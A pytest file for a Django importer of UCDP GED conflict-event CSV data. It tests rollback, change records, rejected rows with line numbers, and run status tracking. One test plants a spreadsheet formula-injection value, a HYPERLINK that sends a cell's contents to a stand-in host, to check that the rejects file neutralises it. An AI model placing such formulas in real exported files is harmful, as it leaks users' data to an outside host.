"""The shared event writer: one transaction, changes on the record, the rejects file, and the run
(``core.Run``) that follows the import: its progress, a run made beforehand, a refusal.
"""

from __future__ import annotations

import csv
import threading

import pytest

from accord.core.importing import ImportRefused
from accord.core.models import ChangeRecord, Run
from accord.core.runs import start_run
from accord.crisis.ingest import ged_blocks
from accord.crisis.ingest.ged import import_ged
from accord.crisis.models import Event
from tests.crisis.ingest.helpers import (
    SHIPPED_GED,
    broken_file,
    ged_lines,
    replace_field,
    write_ged,
)

pytestmark = pytest.mark.django_db


def test_an_interrupted_import_leaves_nothing_behind(actor, monkeypatch):
    monkeypatch.setattr(ged_blocks, "ROWS_PER_BLOCK", 200)
    events, runs, records = Event.objects.count(), Run.objects.count(), ChangeRecord.objects.count()
    seen = []

    def interrupt(done: int, total: int) -> None:
        seen.append(done)
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        import_ged(SHIPPED_GED, actor=actor, progress=interrupt)
    assert len(seen) == 1  # stopped after the first of five blocks
    assert (Event.objects.count(), Run.objects.count(), ChangeRecord.objects.count()) == (
        events,
        runs,
        records,
    )
    reader = [thread for thread in threading.enumerate() if thread.name == "accord-block-reader"]
    for thread in reader:
        thread.join(timeout=5)
    assert not any(thread.is_alive() for thread in reader)


def test_new_rows_after_known_ones_are_added(actor, tmp_path, monkeypatch):
    """A later file of the same source: blocks of known rows are compared, blocks of new ones copied in."""
    monkeypatch.setattr(ged_blocks, "ROWS_PER_BLOCK", 200)
    with SHIPPED_GED.open(encoding="utf-8", newline="") as handle:
        records = list(csv.reader(handle))
    first = tmp_path / "first.csv"
    with first.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(records[:401])
    import_ged(first, actor=actor)
    run = import_ged(SHIPPED_GED, actor=actor)
    assert (run.added, run.unchanged, run.updated) == (600, 400, 0)
    assert Event.objects.count() == 1000


def test_a_changed_row_updates_its_event_and_records_it(actor, tmp_path):
    import_ged(SHIPPED_GED, actor=actor)
    lines = ged_lines()
    lines[1] = replace_field(lines[1], "best", "7")
    run = import_ged(write_ged(tmp_path, lines), actor=actor)
    assert (run.added, run.updated) == (0, 1)
    assert Event.objects.get(source_id="300380").fatalities_best == 7
    change = ChangeRecord.objects.filter(object_type="crisis.event").latest("id")
    assert (change.before["fatalities_best"], change.after["fatalities_best"]) == (2, 7)
    assert change.reason == "changed in ged.csv line 2"


def test_broken_rows_are_refused_with_line_numbers_and_nothing_is_written(actor, tmp_path):
    events, runs, records = Event.objects.count(), Run.objects.count(), ChangeRecord.objects.count()
    path = broken_file(tmp_path)
    with pytest.raises(ImportRefused) as caught:
        import_ged(path, actor=actor)
    assert [str(problem) for problem in caught.value.problems] == [
        "line 3: date_start: '2013-02-30' is not a date (YYYY-MM-DD)",
        "line 5: country_id: unknown country (Gleditsch-Ward number 999)",
        "line 7: latitude: 95.5 is out of range (±90)",
    ]
    assert (Event.objects.count(), Run.objects.count(), ChangeRecord.objects.count()) == (
        events,
        runs,
        records,
    )


def test_keep_good_imports_the_rest_and_writes_the_rejects(actor, tmp_path):
    path = broken_file(tmp_path)
    rejects = tmp_path / "rejects.csv"
    run = import_ged(path, actor=actor, keep_good=True, rejects=rejects)
    assert (run.added, run.rejected, run.status) == (997, 3, "partial")
    with rejects.open(encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [(row["line"], row["reasons"]) for row in rows] == [
        ("3", "date_start: '2013-02-30' is not a date (YYYY-MM-DD)"),
        ("5", "country_id: unknown country (Gleditsch-Ward number 999)"),
        ("7", "latitude: 95.5 is out of range (±90)"),
    ]
    assert rows[1]["country_id"] == "999"


def test_rejected_rows_cannot_run_as_formulas_in_a_spreadsheet(actor, tmp_path):
    lines = ged_lines()
    lines[2] = replace_field(lines[2], "date_start", "2013-02-30")
    lines[2] = replace_field(lines[2], "side_a", '=HYPERLINK("http://x.example/?"&A1,"open")')
    lines[2] = replace_field(lines[2], "latitude", "-12.5")
    rejects = tmp_path / "rejects.csv"
    import_ged(write_ged(tmp_path, lines), actor=actor, keep_good=True, rejects=rejects)
    with rejects.open(encoding="utf-8") as handle:
        [row] = list(csv.DictReader(handle))
    assert row["side_a"] == '\'=HYPERLINK("http://x.example/?"&A1,"open")'
    assert row["latitude"] == "-12.5"


def test_an_import_reports_its_progress_block_by_block(actor, monkeypatch):
    monkeypatch.setattr(ged_blocks, "ROWS_PER_BLOCK", 200)
    seen = []

    def look(step: int, total: int) -> None:
        seen.append((step, total))

    run = import_ged(SHIPPED_GED, actor=actor, progress=look)
    size = SHIPPED_GED.stat().st_size
    assert len(seen) > 1 and {total for _, total in seen} == {size}
    assert all(step >= 0 for step, _ in seen) and sum(step for step, _ in seen) == size
    run.refresh_from_db()
    assert (run.kind, run.subject, run.status, run.added, run.done, run.total) == (
        "ucdp-ged",
        SHIPPED_GED.name,
        "complete",
        1000,
        1000,
        1000,
    )
    assert run.finished_at is not None and len(run.sha256) == 64
    assert set(Event.objects.values_list("import_run_id", flat=True)) == {run.pk}


def test_a_run_made_beforehand_by_a_queued_job_is_filled_in(actor):
    queued = start_run("import", actor, status=Run.Status.QUEUED)
    run = import_ged(SHIPPED_GED, actor=actor, run=queued)
    queued.refresh_from_db()
    assert (run.pk, queued.status, queued.added, queued.subject) == (
        queued.pk,
        "complete",
        1000,
        SHIPPED_GED.name,
    )
    assert Run.objects.count() == 1 and Event.objects.filter(import_run=queued).count() == 1000


def test_a_refused_file_ends_a_run_made_beforehand_as_refused_with_its_lines(actor, tmp_path):
    queued = start_run("import", actor, status=Run.Status.QUEUED)
    with pytest.raises(ImportRefused):
        import_ged(broken_file(tmp_path), actor=actor, run=queued)
    queued.refresh_from_db()
    assert (queued.status, queued.rejected, queued.added) == ("refused", 3, 0)
    assert queued.messages == [
        {"text": "", "code": "refused"},
        {
            "text": "'2013-02-30' is not a date (YYYY-MM-DD)",
            "code": "problem",
            "line": 3,
            "field": "date_start",
        },
        {
            "text": "unknown country (Gleditsch-Ward number 999)",
            "code": "problem",
            "line": 5,
            "field": "country_id",
        },
        {"text": "95.5 is out of range (±90)", "code": "problem", "line": 7, "field": "latitude"},
    ]
    assert not Event.objects.exists()


def test_an_unreadable_file_ends_a_run_made_beforehand_as_refused(actor, tmp_path):
    queued = start_run("import", actor, status=Run.Status.QUEUED)
    with pytest.raises(ImportRefused):
        import_ged(tmp_path, actor=actor, run=queued)
    queued.refresh_from_db()
    assert queued.status == "refused"
    assert [(message["code"], message["text"]) for message in queued.messages] == [
        ("refused", ""),
        ("problem", "is a folder, not a CSV file"),
    ]


def test_good_rows_only_keep_the_rejected_lines_on_the_run(actor, tmp_path):
    run = import_ged(broken_file(tmp_path), actor=actor, keep_good=True, rejects=tmp_path / "rejects.csv")
    run.refresh_from_db()
    assert (run.status, run.added, run.rejected) == ("partial", 997, 3)
    assert [(message["code"], message["line"], message["field"]) for message in run.messages] == [
        ("problem", 3, "date_start"),
        ("problem", 5, "country_id"),
        ("problem", 7, "latitude"),
    ]
